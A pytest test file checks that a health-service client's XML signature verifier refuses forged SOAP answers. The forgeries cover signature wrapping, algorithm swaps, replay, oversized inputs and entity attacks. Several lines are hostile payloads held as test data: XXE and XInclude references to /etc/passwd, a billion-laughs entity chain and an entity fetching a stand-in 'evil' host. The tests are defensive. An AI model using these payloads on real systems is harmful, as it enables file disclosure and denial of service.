"""
Answers forged by somebody who has real ones: an answer to another message, his own certificate, and any XML he likes.

What he wants is always the same: that a message of ours counts as accepted, or as refused, by his word.
"""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest
from counterpart import ACCEPTED, DS, ER, FAULT_ACTION, FERIAS_ACTION, NS, START, WSA, WSU, Counterpart, der, fault
from lxml import etree

from runner.eeszt.answer import Answer, Verifier
from runner.eeszt.keys import read_pins
from runner.eeszt.signature import Allowed
from runner.eeszt.xml import UnverifiedError
from runner.errors import LoginError
from runner.simulator.pki import Pki
from tests.support.throwaway import self_signed

ASKED = "urn:uuid:11111111-1111-1111-1111-111111111111"
OTHER = "urn:uuid:22222222-2222-2222-2222-222222222222"
WSU_ID = f"{{{WSU}}}Id"
C14N = b'Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'

Forge = Callable[[etree._Element], None]


def verifier(counterpart: Counterpart) -> Verifier:
    allowed = Allowed.of(["rsa-sha256", "ecdsa-sha256"], "sha256")
    return Verifier([counterpart.pin], allowed, timedelta(seconds=30), timedelta(seconds=60))


def verify(counterpart: Counterpart, data: bytes, by: Verifier | None = None, after_s: float = 1) -> Answer:
    actions = (FERIAS_ACTION, FAULT_ACTION)
    return (by or verifier(counterpart)).verify(data, "1.2", ASKED, actions, START + timedelta(seconds=after_s))


def find(root: etree._Element, path: str) -> etree._Element:
    found = root.find(path, NS)
    assert found is not None, path
    return found


def below(path: str, name: str = "{urn:x}Extension") -> Callable[[etree._Element], etree._Element]:
    return lambda root: etree.SubElement(find(root, path), name)


@pytest.mark.parametrize(
    "hidden",
    [
        below("s:Header"),
        below("s:Body"),
        below("s:Body/er:FelirasValasz"),
        below(".//wsse:Security"),
        below(".//ds:Signature", f"{{{DS}}}Object"),
        below(".//ds:KeyInfo"),
        below(".//wsse:SecurityTokenReference"),
        below(".//wsu:Timestamp"),
        below("s:Header/wsa:Action"),
        lambda root: etree.SubElement(root, "{urn:x}Extension"),
    ],
)
@pytest.mark.parametrize("attribute", [None, WSU_ID, "Id", "ID", "{http://www.w3.org/XML/1998/namespace}id"])
def test_an_answer_to_another_message_cannot_be_turned_into_ours(
    counterpart: Counterpart, hidden: Callable[[etree._Element], etree._Element], attribute: str | None
) -> None:
    root = counterpart.tree(OTHER)
    signed = find(root, "s:Header/wsa:RelatesTo")
    forged = etree.Element(f"{{{WSA}}}RelatesTo")
    forged.text = ASKED
    if attribute is not None:
        forged.set(attribute, "relates-to")
    header = signed.getparent()
    assert header is not None
    header.replace(signed, forged)
    hidden(root).append(signed)
    with pytest.raises(UnverifiedError):
        verify(counterpart, etree.tostring(root))


@pytest.mark.parametrize("part", ["s:Body", "s:Header/wsa:Action", "s:Header/wsa:MessageID", ".//wsu:Timestamp"])
def test_a_part_of_another_real_answer_does_not_fit(counterpart: Counterpart, part: str) -> None:
    """Both are signed by the service, within the same minute."""
    root, other = counterpart.tree(ASKED), counterpart.tree(ASKED, fault("MAR_RENDBEN", "SIM1"), action=FAULT_ACTION)
    if part == ".//wsu:Timestamp":
        other = counterpart.tree(ASKED, at=START + timedelta(seconds=3))
    place = find(root, part)
    parent = place.getparent()
    assert parent is not None
    parent.replace(place, find(other, part))
    with pytest.raises(UnverifiedError, match="a digest is wrong"):
        verify(counterpart, etree.tostring(root))


def second_signature(root: etree._Element) -> None:
    security = find(root, ".//wsse:Security")
    security.append(copy.deepcopy(find(security, "ds:Signature")))


def second_certificate(root: etree._Element) -> None:
    security = find(root, ".//wsse:Security")
    security.insert(0, copy.deepcopy(find(security, "wsse:BinarySecurityToken")))


def key_by_value(root: etree._Element) -> None:
    info = find(root, ".//ds:KeyInfo")
    info[:] = [etree.fromstring(f"<ds:KeyValue xmlns:ds='{DS}'><ds:RSAKeyValue/></ds:KeyValue>")]


def key_in_two_ways(root: etree._Element) -> None:
    find(root, ".//ds:KeyInfo").append(etree.fromstring(f"<ds:KeyName xmlns:ds='{DS}'>x</ds:KeyName>"))
    find(root, ".//wsse:Reference").set("URI", "#body")


def security_for_another_role(root: etree._Element) -> None:
    other = copy.deepcopy(find(root, ".//wsse:Security"))
    other.set(f"{{{NS['s']}}}role", "urn:x")
    find(root, "s:Header").insert(0, other)


def body_in_a_header(root: etree._Element) -> None:
    body = find(root, "s:Body")
    forged = copy.deepcopy(body)
    forged.attrib.pop(WSU_ID)
    find(forged, "er:FelirasValasz/er:Azonosito").text = "SIM666"
    root.replace(body, forged)
    find(root, "s:Header").append(body)


def body_inside_the_body(root: etree._Element) -> None:
    body = find(root, "s:Body")
    forged = copy.deepcopy(body)
    forged.attrib.pop(WSU_ID)
    root.replace(body, forged)
    find(forged, "er:FelirasValasz/er:Azonosito").append(body)


def envelope_in_an_envelope(root: etree._Element) -> None:
    inner = copy.deepcopy(root)
    find(root, "s:Body")[:] = [inner]


def second_payload(root: etree._Element) -> None:
    find(root, "s:Body").append(etree.fromstring(ACCEPTED.replace("SIM0", "SIM6")))


def reference_to_the_document(root: etree._Element) -> None:
    find(root, ".//ds:Reference").set("URI", "")


def reference_by_xpointer(root: etree._Element) -> None:
    find(root, ".//ds:Reference").set("URI", "#xpointer(id('body'))")


def reference_outside(root: etree._Element) -> None:
    find(root, ".//ds:Reference").set("URI", "file:///etc/passwd")


def xinclude(root: etree._Element) -> None:
    include = "<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>"
    find(root, ".//er:Azonosito").append(etree.fromstring(include))


@pytest.mark.parametrize(
    "forge",
    [
        *(second_signature, second_certificate, key_by_value, key_in_two_ways, security_for_another_role),
        *(body_in_a_header, body_inside_the_body, envelope_in_an_envelope, second_payload),
        *(reference_to_the_document, reference_by_xpointer, reference_outside, xinclude),
    ],
)
def test_a_wrapped_or_doubled_part_is_not_believed(counterpart: Counterpart, forge: Forge) -> None:
    root = counterpart.tree(ASKED)
    forge(root)
    with pytest.raises(UnverifiedError):
        verify(counterpart, etree.tostring(root))


@pytest.mark.parametrize(
    "algorithm",
    [
        "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
        "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
        "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
        "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1",
        "none",
        "",
    ],
)
def test_no_other_algorithm_is_believed(counterpart: Counterpart, algorithm: str) -> None:
    """The pinned key is an elliptic one; RSA with it is refused as well, and a public key is no secret of an HMAC."""
    root = counterpart.tree(ASKED)
    find(root, ".//ds:SignatureMethod").set("Algorithm", algorithm)
    with pytest.raises(UnverifiedError, match="algorithm"):
        verify(counterpart, etree.tostring(root))


@pytest.mark.parametrize(
    "form",
    [
        "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments",
        "http://www.w3.org/2006/12/xml-c14n11",
        "http://www.w3.org/2010/xml-c14n2",
    ],
)
def test_no_other_canonical_form_is_believed(counterpart: Counterpart, form: str) -> None:
    root = counterpart.tree(ASKED)
    find(root, ".//ds:CanonicalizationMethod").set("Algorithm", form)
    with pytest.raises(UnverifiedError, match="canonical form"):
        verify(counterpart, etree.tostring(root))


def test_an_attacker_with_his_own_certificate_of_the_same_authority_signs_in_vain(counterpart: Counterpart) -> None:
    """He names his certificate, or the pinned one, or both."""
    thief = counterpart.pki.sts
    root = counterpart.tree(ASKED, signer=thief)
    with pytest.raises(UnverifiedError, match="not pinned"):
        verify(counterpart, etree.tostring(root))
    token = find(root, ".//wsse:BinarySecurityToken")
    both = copy.deepcopy(root)
    token.text = base64.b64encode(counterpart.pin).decode()
    with pytest.raises(UnverifiedError, match="signature value is wrong"):
        verify(counterpart, etree.tostring(root))
    own = find(both, ".//wsse:BinarySecurityToken")
    own.text = base64.b64encode(der(thief) + counterpart.pin).decode()
    with pytest.raises(UnverifiedError, match="not pinned"):
        verify(counterpart, etree.tostring(both))


def test_an_answer_is_believed_once(counterpart: Counterpart) -> None:
    """A message that is sent again has the same identifier, so the first try's answer would fit the second."""
    judge = verifier(counterpart)
    refused = counterpart.answer(ASKED, fault("TULTERHELT"), action=FAULT_ACTION)
    accepted = counterpart.answer(ASKED)
    assert verify(counterpart, refused, judge).is_fault
    with pytest.raises(UnverifiedError, match="given before"):
        verify(counterpart, refused, judge, after_s=5)
    assert verify(counterpart, accepted, judge, after_s=5).name == f"{{{ER}}}FelirasValasz"
    with pytest.raises(UnverifiedError, match="too old"):
        verify(counterpart, refused, judge, after_s=300)


def test_what_is_not_believed_does_not_use_an_answer_up(counterpart: Counterpart) -> None:
    judge, good = verifier(counterpart), counterpart.answer(ASKED)
    with pytest.raises(UnverifiedError):
        verify(counterpart, good.replace(b"SIM0", b"SIM6"), judge)
    assert verify(counterpart, good, judge).name == f"{{{ER}}}FelirasValasz"


def test_prefixes_and_inherited_attributes_change_nothing(counterpart: Counterpart) -> None:
    """What exclusive canonical XML does not digest must not be read either."""
    good = counterpart.answer(ASKED)
    said = verify(counterpart, good).payload
    for attribute in (b"xmlns:zz='urn:zz'", b"xml:lang='xx'", b"xml:base='http://evil/'", b"xml:space='preserve'"):
        data = good.replace(b"<s:Envelope ", b"<s:Envelope " + attribute + b" ")
        read = etree.fromstring(verify(counterpart, data).payload)
        assert etree.tostring(read, method="c14n", exclusive=True) == etree.tostring(
            etree.fromstring(said), method="c14n", exclusive=True
        )
    for old, new in ((b"xmlns:er=", b"xmlns:e2="), (f"'{ER}'".encode(), b"'urn:other'")):
        with pytest.raises(UnverifiedError):
            verify(counterpart, good.replace(old, new).replace(f'"{ER}"'.encode(), b'"urn:other"'))


def times(count: int, text: str) -> bytes:
    return " ".join(text.format(number) for number in range(count)).encode()


@pytest.mark.parametrize(
    ("old", "new", "because"),
    [
        (b"<s:Body ", b"<s:Body " + times(100_000, 'a{0}="1"') + b" ", "too many attributes"),
        (b"<s:Header>", b"<s:Header " + times(100_000, 'xmlns:a{0}="u{0}"') + b">", "too many namespace"),
        (b"<er:FelirasValasz", b"<x>" * 100_000 + b"</x>" * 100_000 + b"<er:FelirasValasz", "not well-formed"),
        (
            C14N,
            C14N[:-2]
            + b'><e:InclusiveNamespaces xmlns:e="http://www.w3.org/2001/10/xml-exc-c14n#" PrefixList="'
            + times(10_000, "p{0}")
            + b'"/></ds:CanonicalizationMethod>',
            "too many prefixes|not well-formed",
        ),
        (b"<s:Body ", b'<s:Body xmlns:r="relative" r:a="1" ', "no canonical form|digest is wrong"),
    ],
)
@pytest.mark.timeout(20)
def test_no_forged_answer_takes_long_to_refuse(counterpart: Counterpart, old: bytes, new: bytes, because: str) -> None:
    """Before a signature is checked, anybody may have written it; canonical XML takes the square of some counts."""
    data = counterpart.answer(ASKED)
    assert old in data
    with pytest.raises(UnverifiedError, match=because):
        verify(counterpart, data.replace(old, new, 1))


def test_entities_are_refused_before_they_are_read(counterpart: Counterpart) -> None:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(12))
    for declared in (laughs, '<!ENTITY a11 SYSTEM "file:///etc/passwd">', '<!ENTITY % p SYSTEM "http://evil/">%p;'):
        data = counterpart.answer(ASKED).replace(b"SIM000000000001", b"&a11;")
        with pytest.raises(UnverifiedError, match="document type declaration"):
            verify(counterpart, f"<!DOCTYPE s:Envelope [{declared}]>".encode() + data)


@pytest.mark.parametrize("kind", ["rsa-1024", "secp192r1", "p384"])
def test_a_weak_key_cannot_be_pinned(kind: str, p256: Pki, tmp_path: Path) -> None:
    file = tmp_path / "pin.pem"
    file.write_bytes(p256.service.certificate.read_bytes() + self_signed(kind))
    with pytest.raises(LoginError, match=r"RNR-4151 .*neither RSA"):
        read_pins(file)
